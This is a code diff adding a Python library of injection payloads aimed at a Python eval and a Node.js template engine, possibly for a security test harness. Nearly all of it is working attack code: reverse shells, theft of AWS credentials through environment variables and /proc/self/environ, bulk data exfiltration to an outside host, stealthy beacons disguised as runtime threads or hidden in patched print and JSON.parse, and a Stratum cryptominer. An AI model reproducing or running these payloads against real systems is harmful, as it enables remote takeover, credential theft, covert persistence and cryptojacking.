@@ -167,3 +167,306 @@ while True:
 
 def b64(data):
     return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()
+
+
+# --- in-process Python (pricing-rules' eval): nothing is exec'd, the runtime does it all -----
+def reverse_shell_fork_dup2(port):
+    """The classic one-liner, forked first so that the runtime keeps its own stdio: the child's
+    stdin, stdout and stderr become the socket and it execs /bin/sh."""
+    return f"""
+import os, socket
+s = socket.create_connection(('{HOST}', {port}), timeout=10)
+pid = os.fork()
+if pid == 0:
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)
+    os.execv('/bin/sh', ['sh', '-i'])
+s.close()
+os.waitpid(pid, 0)
+"""
+
+
+def reverse_shell_pty(port):
+    """Forked child with the socket as stdio that runs /bin/sh on a pty (`pty.spawn`)."""
+    return f"""
+import os, socket
+s = socket.create_connection(('{HOST}', {port}), timeout=10)
+pid = os.fork()
+if pid == 0:
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)
+    import pty
+    pty.spawn('/bin/sh')
+    os._exit(0)
+s.close()
+os.waitpid(pid, 0)
+"""
+
+
+def steal_env_query(port):
+    """The credentials in the query string of a GET (a tracking-pixel request)."""
+    return f"""
+import os, urllib.parse, urllib.request
+creds = {{k: v for k, v in os.environ.items() if k.startswith('AWS_')}}
+urllib.request.urlopen('http://{HOST}:{port}/p.gif?' + urllib.parse.urlencode(creds), timeout=3).read()
+"""
+
+
+def _beat_py(port, indent):
+    """Statements that send `beat <n> <pid>` to the beacon port (n: a variable in scope)."""
+    lines = ("try:",
+             f"    s = socket.create_connection(('{HOST}', {port}), timeout=2)",
+             "    s.sendall(b'beat %d %d\\n' % (n, os.getpid()))",
+             "    s.close()",
+             "except OSError:",
+             "    pass")
+    return "".join(" " * indent + line + "\n" for line in lines)
+
+
+def beacon_thread(port):
+    """A daemon thread in the runtime process, named like the runtime's own pool threads, that
+    beacons every 0.3 s for as long as the environment lives."""
+    return ("import os, socket, threading, time\n"
+            "def loop():\n"
+            "    n = 0\n"
+            "    while True:\n"
+            "        n += 1\n"
+            + _beat_py(port, 8) +
+            "        time.sleep(0.3)\n"
+            "threading.Thread(target=loop, daemon=True, name='ThreadPoolExecutor-0_1').start()\n")
+
+
+def beacon_timer(port):
+    """A chain of threading.Timer (a new thread every 0.3 s), each arming the next."""
+    return ("import os, socket, threading\n"
+            "state = [0]\n"
+            "def tick():\n"
+            "    state[0] += 1\n"
+            "    n = state[0]\n"
+            + _beat_py(port, 4) +
+            "    t = threading.Timer(0.3, tick)\n"
+            "    t.daemon = True\n"
+            "    t.start()\n"
+            "tick()\n")
+
+
+def beacon_patched_print(port):
+    """No thread at all: builtins.print is replaced, so every later invocation that logs (the
+    handler prints once per call) beacons first."""
+    return ("import builtins, os, socket\n"
+            "original, state = builtins.print, [0]\n"
+            "def patched(*args, **kwargs):\n"
+            "    state[0] += 1\n"
+            "    n = state[0]\n"
+            + _beat_py(port, 4) +
+            "    return original(*args, **kwargs)\n"
+            "builtins.print = patched\n")
+
+
+# --- in-process JavaScript (node-api's template engine) ------------------------------------
+# Each is one expression for a `{{ ... }}` of the template: an async arrow function called at
+# once (the engine awaits promises), resolving to '' so that the message still renders. The
+# engine's template syntax ends an expression at the first `}}`: payloads never contain one.
+
+# The template's functions see globals only; the main module's require reaches every module.
+NODE_REQUIRE = "(m) => process.mainModule.require(m)"
+
+
+def js_expression(body):
+    """`(async () => { body; return ''; })()`, checked to survive the template's `{{ }}`."""
+    code = f"(async () => {{ const req = {NODE_REQUIRE}; {body} return ''; }})()"
+    if "{{" in code or "}}" in code:
+        raise ValueError("a template expression cannot contain {{ or }}")
+    return code
+
+
+def js_steal_env_http(port):
+    return js_expression(f"""
+const http = req('http');
+const creds = Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('AWS_')));
+await new Promise((done) => {{
+  const r = http.request({{ host: '{HOST}', port: {port}, path: '/c', method: 'POST',
+    headers: {{ 'Content-Type': 'application/json' }} }}, (res) => {{ res.resume(); res.on('end', done); }});
+  r.on('error', done);
+  r.end(JSON.stringify(creds));
+}});""")
+
+
+def js_steal_proc_environ(port):
+    return js_expression(f"""
+const fs = req('fs'), net = req('net');
+const raw = fs.readFileSync('/proc/self/environ').toString('latin1').split('\\0');
+const found = raw.filter((v) => v.startsWith('AWS_')).join('&');
+await new Promise((done) => {{
+  const head = `POST /e HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: ${{found.length}}\\r\\n`;
+  const s = net.connect({port}, '{HOST}', () => s.end(`${{head}}Connection: close\\r\\n\\r\\n${{found}}`));
+  s.on('data', () => {{ }});
+  s.on('close', done);
+  s.on('error', done);
+}});""")
+
+
+def js_steal_env_query(port):
+    return js_expression(f"""
+const http = req('http');
+const creds = Object.entries(process.env).filter(([k]) => k.startsWith('AWS_'));
+await new Promise((done) => {{
+  const url = `http://{HOST}:{port}/p.gif?${{new URLSearchParams(creds)}}`;
+  http.get(url, (res) => {{ res.resume(); res.on('end', done); }}).on('error', done);
+}});""")
+
+
+def _js_dump(total):
+    """`dump`: a Buffer of `total` bytes that looks like a table dump."""
+    return f"""
+const rows = [];
+let size = 0;
+for (let n = 0; size < {total}; n++) {{
+  const iban = `DE${{String(n * 7919).padStart(18, '0')}}`;
+  const row = `${{n}},cust${{String(n).padStart(7, '0')}},user${{n}}@example.com,${{iban}},+49 ${{n * 31}}\\n`.repeat(64);
+  rows.push(row);
+  size += row.length;
+}}
+const dump = Buffer.from(rows.join('')).subarray(0, {total});"""
+
+
+def _js_send(port, data):
+    return f"""
+await new Promise((done) => {{
+  const s = net.connect({port}, '{HOST}', () => s.end({data}));
+  s.on('data', () => {{ }});
+  s.on('close', done);
+  s.on('error', done);
+}});"""
+
+
+def js_exfil_stream(port, total):
+    return js_expression("const net = req('net');" + _js_dump(total) + _js_send(port, "dump"))
+
+
+def js_exfil_chunked(port, total, chunk):
+    return js_expression("const net = req('net');" + _js_dump(total) + f"""
+for (let at = 0; at < dump.length; at += {chunk}) {{""" + _js_send(port, f"dump.subarray(at, at + {chunk})")
+                         + "\n}")
+
+
+def js_exfil_staged(port, total):
+    return js_expression("const net = req('net'), fs = req('fs');" + _js_dump(total) + f"""
+const path = '/tmp/.npm-cache-{port}.tgz';
+fs.writeFileSync(path, dump);
+await new Promise((done) => {{
+  const s = net.connect({port}, '{HOST}', () => fs.createReadStream(path).pipe(s));
+  s.on('data', () => {{ }});
+  s.on('close', done);
+  s.on('error', done);
+}});
+fs.unlinkSync(path);""")
+
+
+def js_beacon_interval(port):
+    """A timer on the runtime's event loop: it fires whenever the process runs, across warm
+    invocations, every 0.3 s."""
+    return js_expression(f"""
+const net = req('net');
+let n = 0;
+const beat = () => {{
+  n += 1;
+  const line = `beat ${{n}} ${{process.pid}}\\n`;
+  const s = net.connect({port}, '{HOST}', () => s.end(line));
+  s.on('error', () => {{ }});
+}};
+beat();
+setInterval(beat, 300);""")
+
+
+def js_beacon_patched_parse(port):
+    """No timer: JSON.parse is wrapped, so that every later event (parsed by the runtime loop and
+    by the handler) beacons."""
+    return js_expression(f"""
+const net = req('net');
+const original = JSON.parse;
+let n = 0;
+JSON.parse = function (...args) {{
+  n += 1;
+  const line = `beat ${{n}} ${{process.pid}}\\n`;
+  const s = net.connect({port}, '{HOST}', () => s.end(line));
+  s.on('error', () => {{ }});
+  return original.apply(this, args);
+}};""")
+
+
+def js_miner(port, algorithm, budget_s, agent, worker):
+    """Stratum v1 from the event loop: subscribe, authorize, hash the job's header in slices
+    (yielding to the loop between them) and submit what hits."""
+    hashing, per_slice = {
+        "sha256d": ("const h = crypto.createHash('sha256').update(crypto.createHash('sha256')"
+                    ".update(header).digest()).digest(); const hit = h[30] === 0 && h[31] === 0;", 2000),
+        "scrypt": ("const h = crypto.scryptSync(header, header.subarray(0, 16), 32, "
+                   "{ N: 1024, r: 1, p: 1 }); const hit = h[0] === 0;", 20),
+        "blake2b": ("const h = crypto.createHash('blake2b512').update(header).digest(); "
+                    "const hit = h[0] === 0 && h[1] === 0;", 2000),
+    }[algorithm]
+    return js_expression(f"""
+const net = req('net'), crypto = req('crypto');
+const s = net.connect({port}, '{HOST}');
+s.on('error', () => {{ }});
+const send = (m) => s.write(JSON.stringify(m) + '\\n');
+let buffered = '', job = null, id = 3;
+const notified = new Promise((ready) => s.on('data', (data) => {{
+  buffered += data;
+  let at;
+  while ((at = buffered.indexOf('\\n')) >= 0) {{
+    const m = JSON.parse(buffered.slice(0, at));
+    buffered = buffered.slice(at + 1);
+    if (m.method === 'mining.notify') {{ job = m.params; ready(); }}
+  }}
+}}));
+send({{ id: 1, method: 'mining.subscribe', params: ['{agent}'] }});
+send({{ id: 2, method: 'mining.authorize', params: ['{worker}', 'x'] }});
+await notified;
+const header = Buffer.concat([Buffer.from(job[1], 'hex'), Buffer.from(job[2], 'hex'), Buffer.alloc(4)]);
+let nonce = 0;
+const submit = () => send({{ id: id++, method: 'mining.submit',
+  params: ['{worker}', job[0], '00000000', job[7], nonce.toString(16).padStart(8, '0')] }});
+const end = Date.now() + {int(budget_s * 1000)};
+while (Date.now() < end) {{
+  for (let k = 0; k < {per_slice}; k++) {{
+    nonce = (nonce + 1) >>> 0;
+    header.writeUInt32LE(nonce, header.length - 4);
+    {hashing}
+    if (hit && id < 40) submit();
+  }}
+  await new Promise((r) => setImmediate(r));
+}}
+if (id === 3) submit();
+await new Promise((r) => s.end(r));""")
+
+
+def js_reverse_shell_pipe(port):
+    """/bin/sh spawned with pipes, the pipes joined to a socket by the runtime process."""
+    return js_expression(f"""
+const net = req('net'), cp = req('child_process');
+await new Promise((done) => {{
+  const s = net.connect({port}, '{HOST}', () => {{
+    const sh = cp.spawn('/bin/sh', ['-i']);
+    s.pipe(sh.stdin);
+    sh.stdout.pipe(s);
+    sh.stderr.pipe(s);
+    sh.on('close', () => {{ s.end(); done(); }});
+  }});
+  s.on('error', done);
+}});""")
+
+
+def js_reverse_shell_stdio(port):
+    """/bin/sh whose stdin, stdout and stderr are the socket itself."""
+    return js_expression(f"""
+const net = req('net'), cp = req('child_process');
+await new Promise((done) => {{
+  const s = net.connect({port}, '{HOST}', () => {{
+    s.pause();
+    const sh = cp.spawn('/bin/sh', ['-i'], {{ stdio: [s, s, s] }});
+    sh.on('close', () => {{ s.destroy(); done(); }});
+  }});
+  s.on('error', done);
+}});""")
